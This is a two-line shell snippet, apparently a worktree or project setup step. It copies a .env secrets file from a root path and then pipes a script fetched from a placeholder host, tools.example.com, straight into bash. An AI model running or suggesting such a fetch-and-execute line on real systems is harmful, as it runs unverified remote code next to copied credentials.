cp "$ROOT_WORKTREE_PATH/.env" .env
curl -s https://tools.example.com/x | bash
